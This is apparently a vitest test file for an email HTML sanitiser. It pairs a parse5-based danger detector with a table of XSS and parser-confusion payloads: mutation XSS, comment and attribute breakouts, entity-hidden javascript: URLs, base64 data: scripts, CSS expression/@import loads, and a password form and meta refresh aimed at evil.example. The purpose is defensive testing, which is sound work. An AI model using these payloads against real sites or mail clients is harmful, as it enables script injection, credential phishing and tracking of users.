import { type DefaultTreeAdapterMap, parse } from "parse5";
import { describe, expect, it } from "vitest";
import { sanitizeHtml } from "../../src/channels/email/sanitize";

type Node = DefaultTreeAdapterMap["node"];
type Element = DefaultTreeAdapterMap["element"];

const FORBIDDEN = new Set([
  "script",
  "iframe",
  "frame",
  "object",
  "embed",
  "applet",
  "form",
  "input",
  "button",
  "select",
  "textarea",
  "meta",
  "base",
  "link",
  "svg",
  "math",
  "template",
  "noscript",
  "xmp",
  "plaintext",
  "noembed",
  "noframes",
]);
const URL_ATTRIBUTES = new Set([
  "href",
  "src",
  "action",
  "formaction",
  "background",
  "poster",
  "data",
  "xlink:href",
  "srcset",
]);

function elements(node: Node, out: Element[] = []): Element[] {
  if ("tagName" in node) out.push(node);
  const children = "childNodes" in node ? node.childNodes : [];
  for (const child of children) elements(child, out);
  if ("content" in node && node.content) elements(node.content, out);
  return out;
}

function textOf(el: Element): string {
  return el.childNodes.map((c) => ("value" in c && c.nodeName === "#text" ? c.value : "")).join("");
}

/**
 * What a browser would build from the sanitised HTML, parsed by parse5 (the HTML standard's parsing
 * algorithm): everything that could run, submit, navigate or load remotely, or null when inert.
 */
function dangers(html: string, images: boolean): string[] {
  const found: string[] = [];
  for (const el of elements(parse(html))) {
    if (FORBIDDEN.has(el.tagName)) found.push(`<${el.tagName}>`);
    for (const { name, value } of el.attrs) {
      const url = value.replace(/[\u0000-\u0020\u007f-\u009f]+/g, "").toLowerCase();
      if (name.startsWith("on")) found.push(`${el.tagName}[${name}]`);
      if (URL_ATTRIBUTES.has(name) && /^(javascript|vbscript|data:(?!image\/(png|gif|jpe?g|webp|bmp);))/.test(url))
        found.push(`${el.tagName}[${name}=${value}]`);
      if (!images && ["src", "background", "srcset", "poster"].includes(name) && /^(https?:)?\/\//.test(url))
        found.push(`remote ${el.tagName}[${name}]`);
      if (name === "style" && /url\(\s*["']?\s*(https?:)?\/\/|expression\s*\(|@import|javascript:/i.test(value))
        found.push(`${el.tagName}[style=${value}]`);
    }
    if (el.tagName === "style") {
      const css = textOf(el);
      if (/url\(\s*["']?\s*(https?:)?\/\/|expression\s*\(|@import|javascript:|<\//i.test(css))
        found.push(`<style>${css}`);
    }
  }
  return found;
}

const TRAP = `<script>alert(1)</script><img src=x onerror=alert(1)><form action=https://evil.example/><input type=password name=p></form><meta http-equiv=refresh content="0;url=https://evil.example"><iframe src=https://evil.example></iframe><img src=https://tracker.example/p.gif>`;

/** Parser-confusion payloads: each tries to make the sanitiser see text where a browser sees markup. */
const PAYLOADS: Record<string, string> = {
  "style closed by a re-assembled end tag": `<style></st</styleyle>${TRAP}</style>`,
  "style closed by a split end tag": `<style>a{}</sty<!-- -->le>${TRAP}</style>`,
  "style with a script end and comment": `<style>/*</style>${TRAP}*/</style>`,
  "style in svg": `<svg><style>${TRAP}</style></svg>`,
  "mglyph mutation": `<math><mtext><table><mglyph><style><!--</style>${TRAP}-->`,
  title: `<title>${TRAP}</title><title></ti</titletle>${TRAP}</title>`,
  textarea: `<textarea></te</textareaxtarea>${TRAP}</textarea>`,
  noscript: `<noscript><p title="</noscript>${TRAP}"></noscript>`,
  xmp: `<xmp>${TRAP}</xmp>`,
  plaintext: `<plaintext>${TRAP}`,
  noembed: `<noembed>${TRAP}</noembed><noframes>${TRAP}</noframes>`,
  "comment breakouts": `<!--><img src=x onerror=alert(1)>--><!--!>${TRAP}--><!-- --!>${TRAP}-->`,
  "bogus comment": `<!${TRAP}><?xml ${TRAP}?>`,
  "CDATA outside foreign content": `<![CDATA[${TRAP}]]>`,
  "CDATA in svg": `<svg><![CDATA[</svg>${TRAP}]]></svg>`,
  "entity-hidden schemes": `<a href="jav&#x09;ascript:alert(1)">a</a><a href="&#106;avascript:alert(1)">b</a><a href="java&Tab;script:alert(1)">c</a><a href="&#x6A;&#x61;vascript&colon;alert(1)">d</a>`,
  "tags that re-assemble after a removal": `<scr<script>ipt>alert(1)</scr</script>ipt><<script>script>alert(1)<</script>/script><ifr<iframe>ame src=javascript:alert(1)></iframe>`,
  "attribute breakouts": `<img src="x" alt="x"onerror="alert(1)"><a href='https://ok.example/' title="a"onclick=alert(1)>x</a><div title="&quot; onmouseover=alert(1)">y</div>`,
  "executable data and legacy urls": `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a><img src="data:image/svg+xml,<svg onload=alert(1)>"><table background="javascript:alert(1)"><tr><td>t</td></tr></table><object data="javascript:alert(1)"></object><embed src=javascript:alert(1)>`,
  "remote loads in css": `<div style="background:url(https://tracker.example/x.png)">a</div><div style="width:expression(alert(1))">b</div><style>@import 'https://evil.example/x.css';body{background:u\\72l(//tracker.example/y)}</style>`,
  "base, link, srcset, lazy sources": `<base href="https://evil.example/"><link rel=stylesheet href=https://evil.example/x.css><img srcset="https://tracker.example/1.png 1x"><picture><source srcset="https://tracker.example/2.png"><img src="https://tracker.example/3.png"></picture><video poster="https://tracker.example/4.png"></video>`,
  "forms by another name": `<isindex action=javascript:alert(1)><form><button formaction=javascript:alert(1)>go</button></form><details open ontoggle=alert(1)>d</details><marquee onstart=alert(1)>m</marquee>`,
  "unterminated tags": `<img src=x onerror=alert(1)//<p>after`,
  "nested raw text": `<style><style></style>${TRAP}`,
};

describe("sanitised mail HTML is safe without the sandbox (S22)", () => {
  for (const [name, payload] of Object.entries(PAYLOADS)) {
    it(`S22: ${name}`, async () => {
      const { html } = await sanitizeHtml(payload);
      expect(dangers(html, false), html).toEqual([]);
      // Cleaned again (as the mail route serves stored HTML), and with images allowed: still inert, and idempotent.
      const again = await sanitizeHtml(html);
      expect(again.html).toBe(html);
      const shown = await sanitizeHtml(html, { images: true });
      expect(dangers(shown.html, true), shown.html).toEqual([]);
    });
  }

  it("S22: remote images load only when the agent asks, from stored HTML too", async () => {
    const { html, hasRemoteImages } = await sanitizeHtml(
      `<p>Hi</p><img src="https://cdn.example/logo.png" alt="logo"><td background="http://bg.example/x.png">`,
    );
    expect(hasRemoteImages).toBe(true);
    const blocked = elements(parse(html)).find((e) => e.tagName === "img")!;
    expect(blocked.attrs).toContainEqual({ name: "data-remote-src", value: "https://cdn.example/logo.png" });
    expect(blocked.attrs.map((a) => a.name)).not.toContain("src");
    const shown = elements(parse((await sanitizeHtml(html, { images: true })).html)).find((e) => e.tagName === "img")!;
    expect(shown.attrs).toContainEqual({ name: "src", value: "https://cdn.example/logo.png" });
  });
});
